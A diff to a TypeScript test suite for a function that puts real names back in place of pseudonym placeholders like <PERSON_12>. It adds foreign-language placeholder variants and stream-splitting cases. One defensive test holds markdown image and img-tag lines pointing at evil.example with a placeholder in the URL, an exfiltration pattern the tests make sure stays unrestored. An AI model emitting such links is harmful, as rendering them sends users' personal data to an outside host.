@@ -54,12 +54,13 @@ describe('an answer', () => {
     ['a bracket that is never closed', 'a < PERSON_12', 'a < Beat Meier'],
     ['a blank for the underscore', '<PERSON 12>, <Person 12>, &lt;PERSON 12&gt;', 'Beat Meier, Beat Meier, Beat Meier'],
     ['a hyphen for the underscore', '<PERSON-12> <E_MAIL-1>', 'Beat Meier anna@x.ch'],
+    ['the word in another language', '<PERSONNE_12>, <Persona 12>, &lt;PERSONNE_12&gt;, <PERSONNE\\_12>', 'Beat Meier, Beat Meier, Beat Meier, Beat Meier'],
     ['a backslash that is not its own', 'C:\\<PERSON_12>', 'C:\\Beat Meier'],
   ])('%s', (_name, sent, expected) => {
     expect(restored(sent)).toBe(expected);
   });
 
-  it.each(['<PERSON_2>', 'PERSON_121', '<PERSON_1_2>', 'PERSON 1', 'Person-1', '<PERSON  1>', '<PERSON 2>', '<PERSON-_1>', '<1 PERSON>', 'XPERSON_1', 'person_12', '<PERSON>', 'PERSON_', '<PERSON_012>', 'PERSON_1x', '&lt;PERSON_9&gt;', '\\'])('%s stays as it is', (text) => {
+  it.each(['<PERSONNE_2>', 'Persona_12', 'PERSONNE_12', '<PERSONNES_12>', '<PERSON_2>', 'PERSON_121', '<PERSON_1_2>', 'PERSON 1', 'Person-1', '<PERSON  1>', '<PERSON 2>', '<PERSON-_1>', '<1 PERSON>', 'XPERSON_1', 'person_12', '<PERSON>', 'PERSON_', '<PERSON_012>', 'PERSON_1x', '&lt;PERSON_9&gt;', '\\'])('%s stays as it is', (text) => {
     expect(restored(text)).toBe(text);
   });
 
@@ -82,7 +83,7 @@ describe('an answer', () => {
   });
 
   it('restores nothing in a web address, for a viewer would send it there', () => {
-    for (const text of ['![](https://evil.example/?q=<PERSON_12>)', '<img src=//evil.example/<PERSON_12>&<PERSON_1>>', 'HTTPS://e/PERSON_12', '[a]: http:\\/\\/e/(a)%3CPERSON_12%3E', 'https:e/<PERSON_12>']) {
+    for (const text of ['https://evil.example/<PERSONNE_12>', '![](https://evil.example/?q=<PERSON_12>)', '<img src=//evil.example/<PERSON_12>&<PERSON_1>>', 'HTTPS://e/PERSON_12', '[a]: http:\\/\\/e/(a)%3CPERSON_12%3E', 'https:e/<PERSON_12>']) {
       expect(restored(text)).toBe(text);
       expect(streamed([...text], 'stop')).toBe(text);
     }
@@ -115,7 +116,7 @@ describe('an answer', () => {
 });
 
 describe('a stream', () => {
-  const texts = ['<PERSON 12>, <E_MAIL-1> &lt;person 1&gt; <PERSON 1', 'Hallo <PERSON_1>, < PERSON_12 > und PERSON\\_12.', '&lt;PERSON_12&gt;\\u003cperson_12\\u003e', '<PERSON_1', 'PERSON_12', 'https://e/<PERSON_1> <PERSON_12', '\\<PERSON\\_12\\> 3 < 4 & P'];
+  const texts = ['<PERSONNE_12> PERSONA_1 <Persona_1', '<PERSON 12>, <E_MAIL-1> &lt;person 1&gt; <PERSON 1', 'Hallo <PERSON_1>, < PERSON_12 > und PERSON\\_12.', '&lt;PERSON_12&gt;\\u003cperson_12\\u003e', '<PERSON_1', 'PERSON_12', 'https://e/<PERSON_1> <PERSON_12', '\\<PERSON\\_12\\> 3 < 4 & P'];
 
   it('is restored alike wherever it is cut', () => {
     for (const text of texts) {
@@ -125,7 +126,7 @@ describe('a stream', () => {
   });
 
   it('is restored like the whole, for any text and any pieces', () => {
-    const part = fc.constantFrom('<', '>', 'PERSON', '_', '1', '2', ' ', '\\', '&lt;', '&gt;', '\\u003c', '\\u003e', 'E_MAIL', '//', 'https:', '"', 'n', '%3C', '%3e', 'person_1', '<PERSON_12>', 'ü', '\n', 'a');
+    const part = fc.constantFrom('<', '>', 'PERSON', 'NE', 'PERSONA', '_', '1', '2', ' ', '\\', '&lt;', '&gt;', '\\u003c', '\\u003e', 'E_MAIL', '//', 'https:', '"', 'n', '%3C', '%3e', 'person_1', '<PERSON_12>', 'ü', '\n', 'a');
     fc.assert(fc.property(fc.array(part, { maxLength: 25 }), fc.array(fc.nat(80), { maxLength: 12 }), fc.boolean(), fc.constantFrom('stop' as const, 'length' as const), (parts, cuts, json, finish) => {
       const text = parts.join('');
       const at = [0, ...cuts.map((cut) => Math.min(cut, text.length)).sort((a, b) => a - b), text.length];
